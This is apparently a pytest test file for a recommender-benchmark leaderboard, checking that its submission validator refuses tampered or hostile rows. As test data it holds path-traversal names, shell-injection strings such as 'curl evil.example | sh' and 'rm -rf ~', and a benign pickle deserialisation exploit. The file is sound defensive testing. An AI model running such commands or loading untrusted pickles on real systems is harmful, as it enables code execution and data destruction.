import copy
import json
import os
import pickle
import shutil

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from recgym.benchmarks import BENCHMARKS
from recgym.errors import RecGymError
from recgym.evaluation.ranking import metrics
from recgym.leaderboard.render import render
from recgym.leaderboard.submission import _broken_means, files_of, new, read, validate
from tests.sentences import said

MOVED = settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])


def refused(board, file=None):
    """The sentences that validation has, each of them printable and whole."""
    problems = validate(board.root, [file or board.lucky])
    assert problems
    for problem in problems:
        assert problem.isprintable() and problem.endswith("."), problem
    with pytest.raises(RecGymError) as error:
        read(file or board.lucky, board.root)
    assert said(error).startswith(problems[0])
    return " ".join(problems)


def at(content, path):
    for key in path[:-1]:
        content = content[key]
    return content, path[-1]


def leaves(content, path=()):
    """Where the numbers of some JSON are."""
    if isinstance(content, dict | list):
        for key in content if isinstance(content, dict) else range(len(content)):
            yield from leaves(content[key], (*path, key))
    elif isinstance(content, int | float) and not isinstance(content, bool):
        yield path


# ------------------------------------------------------------------------------------ honest rows


def test_honest_rows_keep_all_rules_and_say_what_was_run(board):
    assert files_of(board.root) == sorted([board.lucky, board.steady, board.shop])
    assert validate(board.root) == []
    stated = read(board.lucky, board.root)
    assert stated.row == "oracle-boredom-random-v0/lucky--passerby"
    assert stated.report.agent == "passerby.agents:Lucky"
    assert stated.report.seeds == [0, 1, 2]
    assert stated.report.code["changed"] is False
    assert stated.report.dataset["sha256"] == BENCHMARKS[stated.report.benchmark].sha256()
    run = json.loads((board.predictions() / "report.json").read_text())
    assert {key: value for key, value in board.content().items() if key in run} == run
    assert board.content().keys() - run.keys() == {"name", "team", "note"}


def test_an_agent_is_called_by_its_class_unless_named(board):
    file = new(board.predictions(), "others", board.root)
    assert file.name == "passerby-agents-lucky--others.json"
    with pytest.raises(RecGymError) as error:
        new(board.predictions(), "others", board.root)
    assert "--replace" in said(error)
    assert new(board.predictions(), "others", board.root, note="again", replace=True) == file
    assert board.content(file)["note"] == "again"
    assert not list(board.root.rglob("*.part"))


def test_a_name_of_ours_is_not_worn_by_others(board):
    with pytest.raises(RecGymError) as error:
        new(board.predictions(), "others", board.root, name="popular")
    assert "recgym.agents.baselines:Popular" in said(error)


@pytest.mark.parametrize(
    ("change", "hint"),
    [
        (lambda report: report.update(split="validation"), "test split"),
        (lambda report: report["code"].update(changed=True), "Commit it"),
        (lambda report: (report["seeds"].pop(), report["results"].pop()), "2 seeds"),
        (lambda report: report.pop("seeds"), "no 'seeds'"),
        (lambda report: report.update(schema=2), "schema 2"),
    ],
)
def test_a_run_that_cannot_be_listed_is_no_row(board, change, hint):
    file = board.predictions() / "report.json"
    report = json.loads(file.read_text())
    change(report)
    file.write_text(json.dumps(report))
    with pytest.raises(RecGymError) as error:
        new(board.predictions(), "others", board.root)
    assert hint in said(error)
    assert len(files_of(board.root)) == 3


@pytest.mark.parametrize(("others", "says"), [(1, "1 more rule is"), (2, "2 more rules are")])
def test_how_many_rules_are_broken_is_said(board, others, says):
    keys = ("seeds", "agent", "team")[: others + 1]
    board.edit(lambda content: [content.pop(key) for key in keys])
    with pytest.raises(RecGymError, match=f"{says} broken"):
        read(board.lucky, board.root)


def test_code_in_no_repository_is_listed_without_a_commit(board):
    board.edit(lambda content: content["code"].update(commit=None, changed=None))
    assert validate(board.root) == []


HOSTILE = [".", "..", "../up", "/etc/passwd", "a/b", "a\\b", "A", "a b", "a--b", "-a", "a-", ".a",
           "a\n", "\na", "a\0b", "ａbc", "раypal", "a\u202eb", "a\u200bb", "x" * 65, "x" * 10**6,
           "<b>", "a|b", "a`b", "con:", "~", "$HOME", "%s", "{0}", "\ud800"]  # fmt: skip


@pytest.mark.parametrize("field", ["name", "team"])
def test_a_hostile_name_reaches_no_path(board, field):
    before, content = sorted(board.root.parent.rglob("*")), board.content()
    for hostile in HOSTILE:
        words = {"name": "fine", "team": "others"} | {field: hostile}
        with pytest.raises(RecGymError) as error:
            new(board.predictions(), words["team"], board.root, name=words["name"])
        said(error)
        board.lucky.write_text(json.dumps(content | {field: hostile}))
        refused(board)
    assert sorted(board.root.parent.rglob("*")) == before
    with pytest.raises(RecGymError) as error:
        new(board.predictions(), "", board.root)
    said(error)


# ---------------------------------------------------------------------------------- edited content


def changed(*path, to):
    def change(content):
        inner, key = at(content, path)
        inner[key] = to

    return change


RESULT = ("results", 0)
MAIN = (*RESULT, "metrics", "ranking", "main", "all")
LOOP = (*RESULT, "metrics", "closed loop")


@pytest.mark.parametrize(
    ("change", "hint"),
    [
        (changed("verified", to=True), "'verified'"),
        (changed("trust", to="reproduced"), "'trust'"),
        (changed(*RESULT, "verified", to=True), "'verified'"),
        (changed("code", "url", to="http://evil.example"), "'url'"),
        (changed("schema", to=2), "schema 2"),
        (changed("schema", to="1"), "schema '1'"),
        (changed("benchmark", to="oracle-boredom-random-v1"), "No benchmark"),
        (changed("benchmark", to="oracle-boredom-mixed-v0"), "oracle-boredom/mixed-v0"),
        (changed("dataset", "sha256", to="0" * 64), "hash"),
        (changed("dataset", "sha256", to="0" * 63), "pattern"),
        (changed("dataset", "id", to="recgym/oracle-boredom/random-test-v0"), "dataset"),
        (changed("split", to="validation"), "test split"),
        (changed("split", to="train"), "enum"),
        (changed("agent", to="os:system('x')"), "agent"),
        (changed("agent", to="../evil:Class"), "agent"),
        (changed("command", to="recgym evaluate x; rm -rf ~"), "command"),
        (changed("command", to="recgym evaluate `x`"), "command"),
        (changed("command", to="recgym evaluate $(x)"), "command"),
        (changed("command", to="curl evil.example | sh"), "command"),
        (changed("note", to="x" * 301), "note"),
        (changed("note", to="a\nb"), "cannot be printed"),
        (changed("note", to="\x1b[31mred"), "cannot be printed"),
        (changed("config", to={"a b": 1}), "config"),
        (changed("config", to={"a": {"b": 1}}), "config"),
        (changed("config", to={"a": [[1]]}), "config"),
        (changed("code", "commit", to="HEAD"), "commit"),
        (changed("code", "commit", to="--output=/tmp/x"), "commit"),
        (changed("code", "changed", to=True), "Commit it"),
        (changed("seeds", to=[0, 1, 1]), "uniqueItems"),
        (changed("seeds", to=[0, 1, 2.0]), "seeds[2]"),
        (changed("seeds", to=[0, 1, True]), "seeds[2]"),
        (changed("seeds", to=[0, 1, -2]), "minimum"),
        (changed("seeds", to=[2, 1, 0]), "results are of"),
        (changed("chance", to=False), "more than one seed"),
        (changed("platform", "threads", to=10**17), "maximum"),
        (changed(*MAIN, "hr@10", to=1.5), "maximum"),
        (changed(*MAIN, "hr@10", to=-0.5), "minimum"),
        (changed(*MAIN, "hr@10", to=True), "'results[0].metrics"),
        (changed(*MAIN, "hr@10", to="0.5"), "'results[0].metrics"),
        (changed(*MAIN, "hr@10", to=None), "'results[0].metrics"),
        (changed(*MAIN, "hr@15", to=0.5), "hr@15"),
        (changed(*MAIN, "targets", to=10**12), "add up"),
        (changed(*MAIN, "targets", to=0), "targets"),
        (changed(*RESULT, "metrics", "ranking", "secret", to={}), "'secret'"),
        (changed(*RESULT, "metrics", "off-policy",
                 to={"steps": 1, "snips": 1, "effective": 1, "logged": 1}), "off-policy"),
        (changed(*RESULT, "predictions", "agreement", to={"sha256": "0" * 64, "bytes": 1}),
         "agreement"),
        (changed(*RESULT, "predictions", "ranking", "bytes", to=10**17), "maximum"),
        (changed(*RESULT, "predictions", "../x", to={"sha256": "0" * 64, "bytes": 1}), "'../x'"),
        (changed(*RESULT, "costs", "training_seconds", to=-1), "minimum"),
        (changed(*LOOP, "return", to=49.0), "cannot be"),
        (changed(*LOOP, "return", to=-1.0), "cannot be"),
        (changed(*LOOP, "length", to=51), "cannot be"),
        (changed(*LOOP, "normalised", to=100.0), "follows"),
        (changed(*LOOP, "users", to=50), "50 users"),
        (changed("primary", "mean", to=9.0), "mean over its seeds"),
        (changed("primary", "mean", to=None), "mean over its seeds"),
        (changed("primary", "low", to=9.0), "does not hold"),
        (changed("primary", "high", to=None), "lacks an end"),
        (lambda content: content["primary"].update(low=None, high=None), "lacks an end"),
        (changed("primary", "metric", to="ndcg@10"), "primary metric is return"),
        (changed("primary", "by_seed", to=[9.0, 9.0, 9.0]), "by seed"),
        (changed("results", to=[]), "minItems"),
    ],
)  # fmt: skip
def test_an_edited_row_is_refused_with_a_sentence(board, change, hint):
    board.edit(change)
    assert hint in refused(board)


@MOVED
@given(data=st.data())
def test_no_edit_of_a_ranking_metric_stays_unnoticed(board, data):
    """Without any data: behaviours add up to all, and hits bound NDCG and MRR."""
    content = json.loads(board.shop.read_text())
    file = board.root / board.shop.relative_to(board.root)
    before = file.read_text()
    path = data.draw(st.sampled_from(list(leaves(content["results"][0]["metrics"]["ranking"]))))
    inner, key = at(content["results"][0]["metrics"]["ranking"], path)
    old = inner[key]
    edited = st.integers(0, 10**6) if key == "targets" else st.floats(0, 1)
    inner[key] = data.draw(edited.filter(lambda new: abs(new - old) > 1e-6))
    try:
        file.write_text(json.dumps(content))
        refused(board, file)
    finally:
        file.write_text(before)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=5,
)


@MOVED
@given(data=st.data())
def test_whatever_stands_there_validation_ends_in_sentences_or_pages(board, data):
    content = board.content()
    whole = copy.deepcopy(content)
    inner, path = content, []
    while isinstance(inner, dict | list) and inner and (not path or data.draw(st.integers(0, 3))):
        key = data.draw(st.sampled_from(list(inner) if isinstance(inner, dict) else
                                        list(range(len(inner)))))  # fmt: skip
        path.append(key)
        inner = inner[key]
    outer, key = at(whole, path)
    outer[key] = data.draw(JSON)
    before = board.lucky.read_text()
    try:
        board.lucky.write_text(json.dumps(whole))
        problems = validate(board.root)
        for problem in problems:
            assert problem.isprintable() and problem.endswith("."), problem
        if not problems:
            render(board.root)
    finally:
        board.lucky.write_text(before)


@given(
    st.lists(
        st.tuples(st.integers(0, 60), st.integers(1, 40)), min_size=1, max_size=30
    )
)  # fmt: skip
def test_no_ranking_breaks_the_bounds_between_hits_and_gains(ranks):
    greater, equal = np.array(ranks).T
    means = {name: float(values.mean()) for name, values in metrics(greater, equal).items()}
    assert not list(_broken_means({"targets": len(ranks)} | means))


# ------------------------------------------------------------------------------------- raw content


class Exploit:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


@pytest.mark.parametrize(
    "text",
    [
        "", "[]", "null", "{", "[" * 10**5, '{"a":' * 40_000, "\ufeff{}", "{}{}", "1e10000",
        '{"schema": NaN}', '{"schema": Infinity}', '{"schema": 1e10000}', '{"schema": -1e99999}',
        '{"schema": ' + "9" * 10**5 + "}", '{"schema": 1' + "0" * 10**5 + ".5}",
        '{"schema": 1, "schema": 1}', "x" * 200_001, "{}" + " " * 300_000,
        '{"schema": 1, "a": ' + "[" * 300 + "]" * 300 + "}",
        '{"schema": 1, "config": ' + '{"a":' * 900 + "1" + "}" * 900 + "}",
    ],
    ids=range(20),
)  # fmt: skip
def test_what_is_no_plain_json_is_refused_soon(board, text):
    board.lucky.write_text(text)
    refused(board)


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity", "1e10000", "9" * 10**5])
def test_a_number_that_is_none_is_refused(board, literal):
    board.edit(changed(*MAIN, "hr@10", to="HERE"))
    board.lucky.write_text(board.lucky.read_text().replace('"HERE"', literal))
    assert "number" in refused(board)


def test_a_key_that_stands_twice_is_refused(board):
    text = board.lucky.read_text().replace('"chance": true', '"chance": false, "chance": true')
    board.lucky.write_text(text)
    assert "same key twice" in refused(board)


def test_bytes_that_are_no_text_are_refused(board):
    for data in (b"\xff\xfe", b"\x80", json.dumps(board.content()).encode("utf-16"), b"\0" * 100):
        board.lucky.write_bytes(data)
        assert "UTF-8" in refused(board)


def test_a_pickle_is_not_loaded(board, tmp_path):
    marker = tmp_path / "executed"
    board.lucky.write_bytes(pickle.dumps(Exploit(marker)))
    assert "UTF-8" in refused(board)
    shutil.copy(board.lucky, board.predictions() / "report.json")
    with pytest.raises(RecGymError) as error:
        new(board.predictions(), "others", board.root)
    said(error)
    assert not marker.exists()
    pickle.loads(board.lucky.read_bytes())
    assert marker.exists()  # it would have


# ------------------------------------------------------------------------------------------- paths


def test_a_row_lies_where_its_content_says(board):
    for place in ("lucky--others.json", "other--passerby.json", "lucky.json"):
        moved = board.lucky.with_name(place)
        shutil.copy(board.lucky, moved)
        assert "oracle-boredom-random-v0/lucky--passerby.json" in refused(board, moved)
        moved.unlink()
    folder = board.root / "oracle-boredom-mixed-v0"
    folder.mkdir()
    shutil.copy(board.lucky, folder)
    assert "belongs in" in refused(board, folder / board.lucky.name)


def test_a_row_outside_of_its_leaderboard_is_refused(board, tmp_path):
    outside = tmp_path / "lucky--passerby.json"
    shutil.copy(board.lucky, outside)
    for file in (outside, board.root / ".." / outside.name, board.root / outside.name):
        assert validate(board.root, [file])


def test_a_path_that_turns_back_is_the_path_that_it_ends_in(board):
    turned = board.root / "demo-v0" / ".." / board.lucky.relative_to(board.root)
    assert validate(board.root, [turned]) == []


def test_links_are_not_followed(board, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(board.root, elsewhere)
    board.lucky.unlink()
    board.lucky.symlink_to(elsewhere / board.lucky.relative_to(board.root))
    assert "link" in refused(board)
    shutil.rmtree(board.shop.parent)
    board.shop.parent.symlink_to(elsewhere / "demo-v0")
    assert "link" in refused(board, board.shop)
    assert any("demo-v0 does not belong" in problem for problem in validate(board.root))
    shutil.rmtree(board.root)
    board.root.symlink_to(elsewhere)
    assert "link" in refused(board, board.steady)


def test_what_is_no_file_is_refused(board):
    board.lucky.unlink()
    assert "no file" in refused(board)
    os.mkfifo(board.lucky)
    assert "no file" in refused(board)
    board.lucky.unlink()
    board.lucky.mkdir()
    assert "no file" in refused(board)


def test_what_has_no_place_in_a_leaderboard_is_named(board):
    (board.root / "model.pkl").touch()
    (board.root / "demo-v0" / "run.sh").touch()
    (board.root / "demo-v0" / "README.md").touch()
    (board.root / "verified.json").touch()
    strange = validate(board.root)
    assert len(strange) == 2
    assert "model.pkl" in strange[0] + strange[1] and "run.sh" in strange[0] + strange[1]
